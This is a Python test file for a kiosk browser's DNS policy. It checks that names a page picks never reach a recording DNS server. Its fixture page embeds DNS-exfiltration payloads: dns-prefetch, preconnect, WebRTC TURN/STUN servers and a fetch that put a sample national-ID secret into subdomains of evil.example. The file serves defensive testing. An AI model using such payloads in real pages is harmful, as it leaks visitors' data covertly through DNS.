"""DNS obeys the policy (issue 26, 2): a name a page chooses — a TURN or STUN server given
to RTCPeerConnection, a dns-prefetch or preconnect hint — is never sent to DNS, so a page
cannot put what a visitor typed into a DNS label. The allowed service's name is resolved,
by the connection gate, after the policy allowed it (the positive control).

The real kiosk runs as a subprocess in a mount namespace of its own whose
/etc/resolv.conf names a recording DNS server on a loopback address: whatever the kiosk
or Chromium asks DNS, by getaddrinfo or by Chromium's own resolver, reaches that server.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import threading
import time
from pathlib import Path

import pytest

from tests.support.kiosk_process import kiosk_command, kiosk_env, one_service_config
from tests.support.server import SiteServer

dnslib = pytest.importorskip("dnslib")
from dnslib import QTYPE, RCODE, RR, A  # noqa: E402
from dnslib.server import BaseResolver, DNSLogger, DNSServer  # noqa: E402

pytestmark = pytest.mark.web

DNS_ADDRESS = "127.53.0.1"  # not 127.0.0.53: systemd-resolved listens there on many machines
SERVICE_HOST = "urzad-dns.example"
SECRET = "pesel90010112345"
PAGE = f"""<!doctype html><title>dns</title>
<link rel="dns-prefetch" href="//{SECRET}-prefetch.evil.example">
<link rel="preconnect" href="http://{SECRET}-preconnect.evil.example">
<script>
const pc = new RTCPeerConnection({{iceServers: [
  {{urls: 'turn:{SECRET}-turn.evil.example:3478?transport=tcp', username: 'u', credential: 'p'}},
  {{urls: 'turns:{SECRET}-turns.evil.example:443?transport=tcp', username: 'u', credential: 'p'}},
  {{urls: 'stun:{SECRET}-stun.evil.example:3478'}}]}});
pc.createDataChannel('x');
pc.onicegatheringstatechange = () => {{
  if (pc.iceGatheringState === 'complete') fetch('/gathered', {{method: 'POST'}});
}};
pc.createOffer().then(offer => pc.setLocalDescription(offer)).then(() => fetch('/offered', {{method: 'POST'}}));
fetch('http://{SECRET}-fetch.evil.example/').catch(() => {{}});
</script>"""


class RecordingResolver(BaseResolver):
    """Answers the service's name with 127.0.0.1, everything else NXDOMAIN; keeps every question."""

    def __init__(self) -> None:
        self.questions: list[str] = []
        self._lock = threading.Lock()

    def resolve(self, request, handler):  # type: ignore[no-untyped-def]
        name = str(request.q.qname).rstrip(".").lower()
        with self._lock:
            self.questions.append(name)
        reply = request.reply()
        if name == SERVICE_HOST and request.q.qtype == QTYPE.A:
            reply.add_answer(RR(request.q.qname, QTYPE.A, rdata=A("127.0.0.1"), ttl=5))
        elif name != SERVICE_HOST:
            reply.header.rcode = RCODE.NXDOMAIN
        return reply

    def seen(self) -> list[str]:
        with self._lock:
            return list(self.questions)


def _namespaces_work() -> bool:
    if os.geteuid() != 0 or shutil.which("unshare") is None:
        return False
    probe = subprocess.run(["unshare", "-m", "true"], capture_output=True)
    return probe.returncode == 0


@pytest.mark.skipif(not _namespaces_work(), reason="needs root and unshare for a private /etc/resolv.conf")
def test_a_page_chosen_name_never_reaches_dns_and_the_allowed_one_does(tmp_path: Path) -> None:
    resolver = RecordingResolver()
    quiet = DNSLogger(logf=lambda _line: None)
    servers = [DNSServer(resolver, port=53, address=DNS_ADDRESS, tcp=tcp, logger=quiet) for tcp in (False, True)]
    for server in servers:
        server.start_thread()
    site = SiteServer()
    site.route(SERVICE_HOST, "/", PAGE)
    resolv = tmp_path / "resolv.conf"
    resolv.write_text(f"nameserver {DNS_ADDRESS}\noptions timeout:1 attempts:1\n")
    url = f"http://{SERVICE_HOST}:{site.port}/"
    config = one_service_config(tmp_path, "DNS test", "urzad", "Urząd", url, f'allow = ["{SERVICE_HOST}"]\n')
    env = kiosk_env(tmp_path)
    kiosk = kiosk_command(config, "urzad")
    script = f"mount --bind {resolv} /etc/resolv.conf && exec \"$@\""
    err_path = tmp_path / "kiosk.err"
    with err_path.open("wb") as err:
        process = subprocess.Popen(["unshare", "-m", "sh", "-c", script, "sh", *kiosk], env=env, stdout=err, stderr=err)
    try:
        end = time.monotonic() + 60
        paths = lambda: {seen.path for seen in site.hits(SERVICE_HOST)}  # noqa: E731
        while time.monotonic() < end and "/gathered" not in paths():
            assert process.poll() is None, err_path.read_text(errors="replace")
            time.sleep(0.2)
        time.sleep(1.0)  # anything still in flight
    finally:
        process.terminate()
        process.wait(timeout=30)
        for server in servers:
            server.stop()
        site.close()
    # Positive control: the page ran, its offer and ICE gathering finished, and the service's
    # name was resolved — through the recording server, so the namespace worked.
    assert {"/", "/offered", "/gathered"} <= paths(), err_path.read_text(errors="replace")[-3000:]
    questions = resolver.seen()
    assert SERVICE_HOST in questions
    leaked = sorted({q for q in questions if SECRET in q or q.endswith("evil.example")})
    assert leaked == [], f"names a page chose reached DNS: {leaked}"
